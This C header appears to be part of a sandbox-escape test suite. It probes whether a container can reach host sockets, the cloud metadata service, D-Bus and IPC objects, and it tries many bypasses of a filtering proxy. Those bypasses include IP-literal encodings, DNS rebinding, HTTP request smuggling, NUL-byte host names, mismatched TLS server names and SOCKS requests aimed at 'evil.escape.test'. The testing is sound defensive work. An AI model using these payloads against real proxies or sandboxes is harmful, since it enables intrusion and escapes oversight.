/* Sockets, the host's services, and what the filtering proxy must not let through. */
#ifndef NETWORK_H
#define NETWORK_H

#define SOCKETS(X)                                                                                                      \
    X(packet, 17, SOCK_RAW, 0x300) X(packet_by_inet, AF_INET, SOCK_PACKET, 0) X(alg, 38, SOCK_SEQPACKET, 0)             \
    X(vsock, 40, SOCK_STREAM, 0) X(key, 15, SOCK_RAW, 2) X(xdp, 44, SOCK_RAW, 0) X(bluetooth, 31, SOCK_RAW, 1)          \
    X(can, 29, SOCK_RAW, 1) X(tipc, 30, SOCK_SEQPACKET, 0) X(netfilter, AF_NETLINK, SOCK_RAW, 12)                       \
    X(audit, AF_NETLINK, SOCK_RAW, 9) X(uevent, AF_NETLINK, SOCK_RAW, 15) X(generic, AF_NETLINK, SOCK_RAW, 16)          \
    X(xfrm, AF_NETLINK, SOCK_RAW, 6) X(diag, AF_NETLINK, SOCK_RAW, 4) X(raw, AF_INET, SOCK_RAW, IPPROTO_ICMP)           \
    X(raw_tcp, AF_INET, SOCK_RAW, IPPROTO_TCP) X(raw_six, AF_INET6, SOCK_RAW, IPPROTO_ICMPV6)                           \
    X(mptcp, AF_INET, SOCK_STREAM, 262) X(udp_lite, AF_INET, SOCK_DGRAM, 136)
#define SOCKET(name, family, type, protocol) \
    static int socket_##name(void) { return verdict(socket(family, type, protocol) >= 0); }
SOCKETS(SOCKET)

static int ready(int fd, short events, int milliseconds)
{
    return poll(&(struct pollfd){fd, events, 0}, 1, milliseconds) == 1;
}

/* Everything that comes within a while after something was sent. */
static size_t hear(int fd, char *text, size_t size)
{
    size_t length = 0;
    for (ssize_t got; length < size - 1 && ready(fd, POLLIN, length ? 150 : 1500); length += (size_t)got)
        if ((got = recv(fd, text + length, size - 1 - length, 0)) <= 0)
            break;
    text[length] = 0;
    return length;
}

static int talks(int fd)
{
    char text[1000];
    return fd >= 0 && send(fd, "hello", 5, MSG_NOSIGNAL) == 5 && hear(fd, text, sizeof text) && strstr(text, TOKEN);
}

static int dial(const char *address, int port, int type)
{
    int family = strchr(address, ':') ? AF_INET6 : AF_INET, fd = socket(family, type | SOCK_NONBLOCK, 0);
    struct sockaddr_in four = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    struct sockaddr_in6 six = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
    inet_pton(family, address, family == AF_INET ? (void *)&four.sin_addr : (void *)&six.sin6_addr);
    const struct sockaddr *to = family == AF_INET ? (struct sockaddr *)&four : (struct sockaddr *)&six;
    if (connect(fd, to, family == AF_INET ? sizeof four : sizeof six) && errno != EINPROGRESS)
        return -1;
    errno = ETIMEDOUT;
    return ready(fd, POLLOUT, 1000) ? fd : -1;
}

static int dial_unix(const char *path, int abstract)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path + abstract, sizeof address.sun_path - 1, "%s", path);
    socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + (size_t)abstract + strlen(path) + !abstract);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return connect(fd, (struct sockaddr *)&address, length) ? -1 : fd;
}

static int host_loopback(void) { return verdict(talks(dial("127.0.0.1", 443, SOCK_STREAM))); }
static int host_loopback_six(void) { return verdict(talks(dial("::1", 443, SOCK_STREAM))); }
static int host_address(void) { return verdict(talks(dial(fact("address"), 443, SOCK_STREAM))); }
static int metadata_service(void) { return verdict(talks(dial("169.254.169.254", 80, SOCK_STREAM))); }
static int dns_udp(void) { return verdict(talks(dial(fact("address"), 53, SOCK_DGRAM))); }
static int dns_tcp(void) { return verdict(talks(dial(fact("address"), 53, SOCK_STREAM))); }
static int abstract_socket(void) { return verdict(talks(dial_unix("mixos-escape", 1))); }
static int outside_socket(void) { return verdict(talks(dial_unix(in("outside/socket"), 0))); }
static int shown_socket(void) { return verdict(talks(dial_unix(in("shown/socket"), 0))); }
static int daemon_socket(void) { return verdict(dial_unix("/run/mixos/mixosd.sock", 0) >= 0); }
static int bus_socket(void) { return verdict(dial_unix("/run/dbus/system_bus_socket", 0) >= 0); }

/* Netlink is how a network is changed; asking is allowed, changing takes a right. */
static int add_address(void)
{
    struct { struct nlmsghdr head; struct ifaddrmsg body; struct rtattr attribute; uint32_t address; } wish = {
        {sizeof wish, RTM_NEWADDR, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE, 1, 0}, {AF_INET, 32, 0, 0, 1},
        {8, IFA_LOCAL}, htonl(0x7f7b7b7b)};
    struct { struct nlmsghdr head; struct nlmsgerr error; char rest[200]; } answer = {0};
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    if (send(fd, &wish, sizeof wish, 0) < 0 || recv(fd, &answer, sizeof answer, 0) < 0)
        return verdict(0);
    wish.head.nlmsg_type = RTM_DELADDR;
    send(fd, &wish, sizeof wish, 0);
    errno = -answer.error.error;
    return verdict(answer.error.error == 0);
}

/* -- System V and POSIX objects of the host -- */

static int shared_memory(void)
{
    char *text = shmat(shmget(0x6d69786f, 0, 0), NULL, SHM_RDONLY);
    return verdict(text != (char *)-1 && !strcmp(text, TOKEN));
}

static int message_queue(void) { return verdict(msgget(0x6d69786f, 0) >= 0); }
static int posix_queue(void) { return verdict(mq_open("/mixos-escape", O_RDONLY) >= 0); }
static int posix_memory(void) { return reads_token("/dev/shm/mixos-escape"); }

/* -- through the proxy: PROXY_OK is allowed on ports 80 and 443, everything else is not -- */

#define PROXY_OK "ok.escape.test"
#define EVIL "evil.escape.test"

/* Say `first`, and when that is granted `then`; escaped when the token comes back, or when "granted" is too much already. */
static int asks_proxy(const char *first, size_t length, const char *then, size_t size)
{
    char text[4000];
    int fd = dial("127.0.0.1", (int)number("proxy-port"), SOCK_STREAM);
    if (fd < 0 || send(fd, first, length, MSG_NOSIGNAL) != (ssize_t)length)
        return verdict(0);
    size_t got = hear(fd, text, sizeof text);
    int granted = !strncmp(text, "HTTP/1.1 200", 12) || (got >= 4 && !memcmp(text, "\5\0\5\0", 4));
    if (strstr(text, TOKEN))
        return say(ESCAPED, "token");
    if (granted && size && send(fd, then, size, MSG_NOSIGNAL) == (ssize_t)size) {
        hear(fd, text, sizeof text);
        return strstr(text, TOKEN) ? say(ESCAPED, "token") : say(BLOCKED, "granted, then cut");
    }
    return granted && !strstr(text, "no secret") ? say(ESCAPED, "granted") : say(BLOCKED, "%.40s", got ? text : "hung up");
}

static int tunnels(const char *target)
{
    char text[400];
    int length = snprintf(text, sizeof text, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target);
    return asks_proxy(text, (size_t)length, NULL, 0);
}

#define TARGETS(X)                                                                                                      \
    X(denied_name, EVIL ":443") X(denied_port, PROXY_OK ":22") X(suffix, PROXY_OK "." EVIL ":443")                      \
    X(prefix, "x" PROXY_OK ":443") X(account, PROXY_OK "@" EVIL ":443") X(literal, "127.0.0.1:443")                     \
    X(literal_six, "[::1]:443") X(literal_mapped, "[::ffff:127.0.0.1]:443") X(literal_nat64, "[64:ff9b::7f00:1]:443")   \
    X(literal_decimal, "2130706433:443") X(literal_hex, "0x7f.0.0.1:443") X(literal_octal, "0177.0.0.1:443")            \
    X(literal_short, "127.1:443") X(literal_zero, "0.0.0.0:443") X(metadata, "169.254.169.254:80")                      \
    X(link_local, "[fe80::1]:443") X(percent, PROXY_OK "%00." EVIL ":443") X(rebind_loopback, "loop.escape.test:443")   \
    X(rebind_link_local, "link.escape.test:80") X(rebind_private, "lan.escape.test:443")                               \
    X(rebind_mapped, "mapped.escape.test:443") X(rebind_mixed, "mixed.escape.test:443") X(rebind_own, "own.escape.test:443")
#define TARGET(name, target) static int proxy_##name(void) { return tunnels(target); }
TARGETS(TARGET)

static int proxy_own_address(void)
{
    char target[100];
    snprintf(target, sizeof target, "%s:443", fact("address"));
    return tunnels(target);
}

#define ASKS(first, then) asks_proxy(first, sizeof first - 1, then, sizeof then - 1)
#define CONNECT_OK "CONNECT " PROXY_OK ":443 HTTP/1.1\r\nHost: " PROXY_OK ":443\r\n\r\n"
#define GET_OK "GET http://" PROXY_OK "/ HTTP/1.1\r\nHost: " PROXY_OK "\r\n"
#define GET_EVIL "GET http://" EVIL "/ HTTP/1.1\r\nHost: " EVIL "\r\n\r\n"

/* A ClientHello (RFC 8446, 4.1.2) for a server, or for none. */
static size_t client_hello(char *to, const char *name)
{
    size_t length = strlen(name), list = length ? length + 9 : 0, body = 2 + 32 + 1 + 4 + 2 + 2 + list;
    char *at = to;
#define PUT(size, value) for (int shift = 8 * (size) - 8; shift >= 0; shift -= 8) *at++ = (char)((value) >> shift)
    PUT(1, 22); PUT(2, 0x0301); PUT(2, body + 4); PUT(1, 1); PUT(3, body); PUT(2, 0x0303);
    memset(at, 7, 32), at += 32;
    PUT(1, 0); PUT(2, 2); PUT(2, 0x1301); PUT(1, 1); PUT(1, 0); PUT(2, list);
    if (length) {
        PUT(2, 0); PUT(2, length + 5); PUT(2, length + 3); PUT(1, 0); PUT(2, length);
        memcpy(at, name, length), at += length;
    }
    return (size_t)(at - to);
}

static int handshakes(const char *name)
{
    char text[600];
    size_t length = client_hello(text, name);
    return asks_proxy(CONNECT_OK, sizeof CONNECT_OK - 1, text, length);
}

static int proxy_other_server(void) { return handshakes(EVIL); }
static int proxy_no_server(void) { return handshakes(""); }
static int proxy_not_tls(void) { return ASKS(CONNECT_OK, "GET / HTTP/1.1\r\nHost: " EVIL "\r\n\r\n"); }
static int proxy_other_host(void) { return ASKS("GET http://" PROXY_OK "/ HTTP/1.1\r\nHost: " EVIL "\r\n\r\n", ""); }
static int proxy_two_hosts(void) { return ASKS(GET_OK "Host: " EVIL "\r\n\r\n", ""); }
static int proxy_plain_denied(void) { return ASKS(GET_EVIL, ""); }
static int proxy_pipelined(void) { return ASKS(GET_OK "\r\n" GET_EVIL, ""); }
static int proxy_hidden_by_length(void) { return ASKS(GET_OK "Content-Length: 1\r\nContent-Length: 90\r\n\r\nx" GET_EVIL, ""); }
static int proxy_hidden_by_chunks(void) { return ASKS(GET_OK "Content-Length: 90\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" GET_EVIL, ""); }
static int proxy_bare_line_feed(void) { return ASKS("GET http://" PROXY_OK "/ HTTP/1.1\r\nHost: " PROXY_OK "\r\nX: y\n\n" GET_EVIL, ""); }
static int proxy_nul(void) { return ASKS("CONNECT " PROXY_OK "\0." EVIL ":443 HTTP/1.1\r\nHost: " PROXY_OK "\r\n\r\n", ""); }

#define SOCKS_ASKS(command, rest) ASKS("\5\1\0" "\5" command "\0" rest, "hello")
static int proxy_socks_name(void) { return SOCKS_ASKS("\1", "\3\20" EVIL "\1\273"); }
static int proxy_socks_literal(void) { return SOCKS_ASKS("\1", "\1\177\0\0\1\1\273"); }
static int proxy_socks_text(void) { return SOCKS_ASKS("\1", "\3\11127.0.0.1\1\273"); }
static int proxy_socks_bind(void) { return SOCKS_ASKS("\2", "\3\16" PROXY_OK "\1\273"); }
static int proxy_socks_udp(void) { return SOCKS_ASKS("\3", "\3\16" PROXY_OK "\1\273"); }

/* -- what must work, so that "blocked" does not mean "broken" -- */

static int works_tunnel(void) { return handshakes(PROXY_OK); }

static int works_plain(void)
{
    char text[1000];
    int fd = dial("127.0.0.1", (int)number("proxy-port"), SOCK_STREAM);
    send(fd, GET_OK "\r\n", sizeof GET_OK + 1, MSG_NOSIGNAL);
    return verdict(hear(fd, text, sizeof text) && strstr(text, "no secret"));
}

static int works_read(void) { return verdict(read(open(in("shown/open"), O_RDONLY), (char[1]){0}, 1) == 1); }

static int works_write(void)
{
    int worked = writes(open(in("project/mine"), O_WRONLY | O_CREAT, 0644), "x");
    unlink(in("project/mine"));
    return verdict(worked);
}

static int works_scratch(void) { return verdict(writes(open(in("scratch/mine"), O_WRONLY | O_CREAT, 0644), "x")); }
static int works_read_protected(void) { return verdict(read(open(in("project/.git/config"), O_RDONLY), (char[1]){0}, 1) == 1); }

static int works_fork(void)
{
    pid_t child = fork();
    if (child == 0)
        _exit(7);
    return verdict(exit_of(child) == 7);
}

static int works_own_loopback(void)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
    socklen_t size = sizeof address;
    int server = socket(AF_INET, SOCK_STREAM, 0), client = socket(AF_INET, SOCK_STREAM, 0);
    return verdict(!bind(server, (struct sockaddr *)&address, size) && !listen(server, 1) &&
                   !getsockname(server, (struct sockaddr *)&address, &size) &&
                   !connect(client, (struct sockaddr *)&address, size));
}

#define SOCKET_ROW(name, family, type, protocol) {"socket-" #name, socket_##name},
#define TARGET_ROW(name, target) {"proxy-" #name, proxy_##name},
static const struct attempt network_attempts[] = {
    SOCKETS(SOCKET_ROW) {"host-loopback", host_loopback}, {"host-loopback-six", host_loopback_six},
    {"host-address", host_address}, {"metadata-service", metadata_service}, {"dns-udp", dns_udp}, {"dns-tcp", dns_tcp},
    {"abstract-socket", abstract_socket}, {"outside-socket", outside_socket}, {"shown-socket", shown_socket},
    {"daemon-socket", daemon_socket}, {"bus-socket", bus_socket}, {"add-address", add_address},
    {"shared-memory", shared_memory}, {"message-queue", message_queue}, {"posix-queue", posix_queue},
    {"posix-memory", posix_memory}, TARGETS(TARGET_ROW) {"proxy-own-address", proxy_own_address},
    {"proxy-other-server", proxy_other_server}, {"proxy-no-server", proxy_no_server}, {"proxy-not-tls", proxy_not_tls},
    {"proxy-other-host", proxy_other_host}, {"proxy-two-hosts", proxy_two_hosts}, {"proxy-plain-denied", proxy_plain_denied},
    {"proxy-pipelined", proxy_pipelined}, {"proxy-hidden-by-length", proxy_hidden_by_length},
    {"proxy-hidden-by-chunks", proxy_hidden_by_chunks}, {"proxy-bare-line-feed", proxy_bare_line_feed},
    {"proxy-nul", proxy_nul}, {"proxy-socks-name", proxy_socks_name}, {"proxy-socks-literal", proxy_socks_literal},
    {"proxy-socks-text", proxy_socks_text}, {"proxy-socks-bind", proxy_socks_bind}, {"proxy-socks-udp", proxy_socks_udp},
};
static const struct attempt what_works[] = {
    {"works-read", works_read}, {"works-write", works_write}, {"works-scratch", works_scratch},
    {"works-read-protected", works_read_protected}, {"works-fork", works_fork}, {"works-own-loopback", works_own_loopback},
    {"proxy-works-tunnel", works_tunnel}, {"proxy-works-plain", works_plain},
};

#endif
